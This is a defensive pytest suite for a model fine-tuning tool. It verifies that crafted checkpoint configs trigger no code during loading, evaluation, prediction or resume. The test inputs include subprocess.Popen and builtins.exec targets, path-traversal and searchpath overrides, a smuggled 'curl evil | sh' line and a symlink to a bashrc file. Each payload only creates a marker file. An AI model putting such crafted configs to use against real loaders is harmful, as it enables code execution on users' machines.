"""A checkpoint is untrusted input: a crafted saved config runs nothing, through every entry
point that reads one (load_model, mode=evaluate, mode=predict, resume=, backbone.checkpoint=).

Each crafted checkpoint names a callable that would create a marker file if it were ever
imported and called; the marker's absence proves nothing ran.
"""

import copy
import shutil

import pytest
import torch
from hydra import initialize_config_dir
from PIL import Image
from torch import nn

import finetune
from finetune.cli import compose_unresolved
from finetune.errors import ConfigError
from finetune.run import build, run
from finetune.state.files import load_safe
from finetune.state.resume import find_run_dir, load_last, resumed_config
from finetune.state.trust import check_targets, targets, trusted

from conftest import CONF_DIR, FAST, make_config, run_cli


class Doubled(nn.Module):
    """A layer of the user's own: allowed in their config, in a file only when trusted."""

    def forward(self, x):
        return 2 * x


class Touch:
    """What an attacker would name: building it does something (creates `path`), whatever
    it is called with."""

    def __init__(self, *args, path: str, **kwargs):
        open(path, "w").close()


DOUBLED, TOUCH = f"{__name__}.Doubled", f"{__name__}.Touch"


def with_marker(marker) -> dict[str, dict]:
    """Saved-config changes, each of which creates `marker` if it is ever built or called."""
    touch = {"_target_": TOUCH, "path": str(marker)}
    return {
        "Popen head layer": {"head": {"layers": [
            {"_target_": "subprocess.Popen", "args": ["touch", str(marker)]}]}},
        "class in a head layer": {"head": {"layers": [touch]}},
        "class as optimizer": {"optimizer": touch},
        "class as scheduler": {"scheduler": touch},
        "class as logger": {"logger": {"evil": touch}},
        "class nested in a logger's arguments": {"logger": {"tensorboard": {
            "_target_": "finetune.loggers.TensorBoardLogger", "log_every_n_steps": touch}}},
        "non-nn class": {"head": {"layers": [
            {"_target_": "logging.FileHandler", "filename": str(marker)}]}},
        "builtin exec": {"head": {"layers": [
            {"_target_": "builtins.exec", "source": f"open({str(marker)!r}, 'w')"}]}},
        "a class reached through torch.nn": {"head": {"layers": [
            {"_target_": "torch.nn.modules.module.torch.fx.GraphModule", "root": {}}]}},
        "dunder path": {"head": {"layers": [{"_target_": "torch.nn.Module.__class__"}]}},
        "dotted path with ..": {"head": {"layers": [
            {"_target_": "torch.nn..logging.FileHandler", "filename": str(marker)}]}},
        "interpolation": {"data": {"root": "${oc.env:HOME}"}},
    }


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    run_dir = tmp_path_factory.mktemp("trained")
    run(make_config(*FAST), str(run_dir), list(FAST))
    return run_dir


def merged(config: dict, change: dict) -> dict:
    config = copy.deepcopy(config)
    for key, value in change.items():
        config[key] = {**config.get(key, {}), **value} if isinstance(value, dict) else value
    return config


def crafted(trained, tmp_path, change: dict, overrides: list[str] | None = None):
    """A copy of the trained run whose checkpoints' saved config carries `change`."""
    run_dir = tmp_path / "crafted"
    shutil.copytree(trained, run_dir)
    for name in ("last.pt", "best.pt"):
        path = run_dir / "checkpoints" / name
        checkpoint = load_safe(str(path))
        checkpoint["run"]["config"] = merged(checkpoint["run"]["config"], change)
        if overrides is not None:
            checkpoint["run"]["overrides"] = overrides
        path.unlink()  # best.pt is a hard link to last.pt: write each anew
        torch.save(checkpoint, path)
    return run_dir


def resume_in_process(run_dir, *overrides: str):
    """What `python train.py resume=RUN_DIR OVERRIDES` does before training."""
    saved = load_last(str(run_dir))
    with initialize_config_dir(config_dir=str(CONF_DIR), version_base="1.3"):
        cfg = resumed_config(str(run_dir), saved["run"], list(overrides), compose_unresolved)
    return run(cfg, str(run_dir), saved["run"]["overrides"], checkpoint=saved)


def entry_points(run_dir, tmp_path):
    """Each way a checkpoint's saved config is read, as a call."""
    best = str(run_dir / "checkpoints" / "best.pt")
    photos = tmp_path / "photos"
    photos.mkdir(exist_ok=True)
    Image.new("RGB", (32, 32)).save(photos / "a.png")
    return {
        "load_model": lambda: finetune.load_model(best),
        "mode=evaluate": lambda: run(make_config(*FAST, "mode=evaluate", f"checkpoint={best}"),
                                     str(tmp_path / "evaluated")),
        "mode=predict": lambda: run(make_config(*FAST, "mode=predict", f"checkpoint={best}",
                                                f"predict_input={photos}"),
                                    str(tmp_path / "predicted")),
        "resume=": lambda: resume_in_process(run_dir, "trainer.max_epochs=2"),
    }


CASES = with_marker("MARKER")
# load_model, evaluate and predict check a saved config the same way (load_model): every
# case through load_model and resume, the model's own cases through evaluate and predict
HEAD_CASES = ["Popen head layer", "class in a head layer", "interpolation"]
PAIRS = [(entry, case) for entry in ("load_model", "resume=") for case in CASES]
PAIRS += [(entry, case) for entry in ("mode=evaluate", "mode=predict") for case in HEAD_CASES]


def test_the_payloads_fire_when_trusted(trained, tmp_path):
    """The control: with trust=['*'] the crafted head is built, and the marker appears."""
    marker = tmp_path / "code_ran"
    run_dir = crafted(trained, tmp_path, with_marker(marker)["class in a head layer"])
    with pytest.raises(AttributeError):  # Touch is no layer: it has no .to(), found after it ran
        finetune.load_model(str(run_dir / "checkpoints" / "best.pt"), trust=["*"])
    assert marker.exists()


@pytest.mark.parametrize("entry, case", PAIRS)
@pytest.mark.slow
def test_a_crafted_saved_config_runs_nothing(trained, tmp_path, entry, case):
    marker = tmp_path / "code_ran"
    change = with_marker(marker)[case]
    run_dir = crafted(trained, tmp_path, change)
    with pytest.raises(ConfigError) as info:
        entry_points(run_dir, tmp_path)[entry]()
    assert not marker.exists()
    message = str(info.value)
    assert str(run_dir) in message  # the file (or, resuming, its run) is named
    if case == "interpolation":
        assert "data.root" in message and "interpolation" in message
    else:
        key, target = targets(change)[-1]  # e.g. head.layers[0]._target_, 'subprocess.Popen'
        assert f"{key}={target!r}" in message
        assert "trust=[" in message or "not a class path" in message


@pytest.mark.slow
def test_a_file_override_that_reaches_past_conf_is_refused(trained, tmp_path):
    marker = tmp_path / "code_ran"
    (tmp_path / "evil.yaml").write_text(f"_target_: {TOUCH}\npath: {marker}\n")
    for overrides in (["hydra.searchpath=[file:///tmp]"], ["experiment=../../../tmp/evil"],
                      [f"+backbone@_global_={tmp_path}/evil"], ["+logger.x._target_=" + TOUCH,
                                                                 f"+logger.x.path={marker}"],
                      ["seed=${oc.env:HOME}"], ["data.name='x\ncurl evil | sh'"],
                      [f"head.layers.0._target_={TOUCH}"]):
        run_dir = crafted(trained, tmp_path, {}, overrides)
        with pytest.raises(ConfigError, match="resume=.*(saved override|_target_)"):
            resume_in_process(run_dir, "trainer.max_epochs=2")
        shutil.rmtree(run_dir)
    assert not marker.exists()


def test_a_tuple_in_a_saved_config_is_refused(trained, tmp_path):
    marker = tmp_path / "code_ran"
    run_dir = crafted(trained, tmp_path, {"head": {"layers": (
        {"_target_": "subprocess.Popen", "args": ["touch", str(marker)]},)}})
    for call in (lambda: finetune.load_model(str(run_dir / "checkpoints" / "best.pt")),
                 lambda: resume_in_process(run_dir, "trainer.max_epochs=2")):
        with pytest.raises(ConfigError, match="tuple, not plain data"):
            call()
    assert not marker.exists()


def test_a_run_directory_holding_links_is_not_resumed(trained, tmp_path):
    run_dir = crafted(trained, tmp_path, {})
    (tmp_path / "bashrc").write_text("")
    (run_dir / "train.log").unlink(missing_ok=True)
    (run_dir / "train.log").symlink_to(tmp_path / "bashrc")
    with pytest.raises(ConfigError, match="train.log is a symbolic link"):
        find_run_dir(str(run_dir))
    assert (tmp_path / "bashrc").read_text() == ""


def test_a_frozen_part_outside_the_checkpoint_folder_is_refused(trained, tmp_path):
    run_dir = crafted(trained, tmp_path, {})
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copy(run_dir / "checkpoints" / "frozen.pt", outside / "frozen.pt")
    path = run_dir / "checkpoints" / "last.pt"
    checkpoint = load_safe(str(path))
    checkpoint["frozen_part"]["file"] = "../../outside/frozen.pt"
    torch.save(checkpoint, path)
    for call in (lambda: finetune.load_model(str(path)),
                 lambda: build(make_config(*FAST, f"backbone.checkpoint={path}"))):
        with pytest.raises(ConfigError, match="frozen_part entry is not one this tool writes"):
            call()


def test_backbone_checkpoint_takes_only_the_weights(trained, tmp_path):
    marker = tmp_path / "code_ran"
    every_case = {}
    for change in with_marker(marker).values():
        every_case = merged(every_case, change)
    run_dir = crafted(trained, tmp_path, every_case)
    path = run_dir / "checkpoints" / "best.pt"
    setup = build(make_config(*FAST, f"backbone.checkpoint={path}"))
    saved = finetune.load_model(str(trained / "checkpoints" / "best.pt")).net.pretrained
    assert all(torch.equal(value, saved.state_dict()[name])
               for name, value in setup.net.pretrained.state_dict().items())
    assert not marker.exists()


@pytest.fixture(scope="module")
def own_layer_run(tmp_path_factory):
    """A run whose own config (the user's: allowed) has a layer class of the user's."""
    run_dir = tmp_path_factory.mktemp("own_layer")
    overrides = [*FAST, f"head.layers=[{{_target_: {DOUBLED}}}, {{_target_: torch.nn.Linear}}]"]
    run(make_config(*overrides), str(run_dir), overrides)
    return run_dir


@pytest.mark.slow
def test_the_users_own_classes_need_trust_when_read_from_a_file(own_layer_run, tmp_path):
    best = str(own_layer_run / "checkpoints" / "best.pt")
    with pytest.raises(ConfigError, match=rf"head.layers\[0\]._target_='{DOUBLED}'.*trust="):
        finetune.load_model(best)
    assert isinstance(finetune.load_model(best, trust=[DOUBLED]).net.add_layers[0], Doubled)
    assert isinstance(finetune.load_model(best, trust=[f"{__name__}.*"]).net.add_layers[0], Doubled)
    evaluated = make_config(*FAST, "mode=evaluate", f"checkpoint={best}", f"trust=[{DOUBLED}]")
    assert run(evaluated, str(tmp_path / "evaluated")) >= 0


@pytest.mark.slow
def test_resume_takes_trust_from_the_command_line_never_from_the_file(own_layer_run, tmp_path):
    run_dir = tmp_path / "run"
    shutil.copytree(own_layer_run, run_dir)
    checkpoint = load_safe(str(run_dir / "checkpoints" / "last.pt"))
    checkpoint["run"]["config"]["trust"] = ["*"]  # a file trusting itself counts for nothing
    checkpoint["run"]["overrides"].append("trust=['*']")
    (run_dir / "checkpoints" / "last.pt").unlink()
    torch.save(checkpoint, run_dir / "checkpoints" / "last.pt")
    with pytest.raises(ConfigError, match=DOUBLED):
        resume_in_process(run_dir, "trainer.max_epochs=2")
    assert resume_in_process(run_dir, "trainer.max_epochs=2", f"trust=[{DOUBLED}]") >= 0


def test_trust_entries():
    assert trusted("a.b.C", ["a.b.C"]) and trusted("x.Y", ["*"])
    assert trusted("json.decoder.JSONDecoder", ["json.*"])  # a class defined in the package
    assert not trusted("json.decoder.scanner.make_scanner", ["json.*"])  # not a class
    assert not trusted("json.decoder.re.Pattern", ["json.*"])  # only imported there
    assert not trusted("a.b.C", ["a.b"]) and not trusted("jsonx.C", ["json.*"])
    assert not trusted("a.C", [])


def test_the_shipped_classes_pass_without_trust():
    config = make_config("head=mlp", "optimizer=adamw", "scheduler=step", "logger=tensorboard")
    from omegaconf import OmegaConf

    check_targets(OmegaConf.to_container(config, resolve=True), "test")


@pytest.mark.slow
def test_resume_of_a_crafted_run_on_the_command_line_exits_with_the_reason(trained, tmp_path):
    marker = tmp_path / "code_ran"
    run_dir = crafted(trained, tmp_path, with_marker(marker)["class as optimizer"],
                      [*FAST, "backbone.allow_download=false", "plots=false"])  # as run_cli's
    result = run_cli(f"resume={run_dir}", "trainer.max_epochs=2")
    assert result.returncode == 2, result.stderr
    assert f"optimizer._target_='{TOUCH}'" in result.stderr
    assert "Traceback" not in result.stderr and not marker.exists()
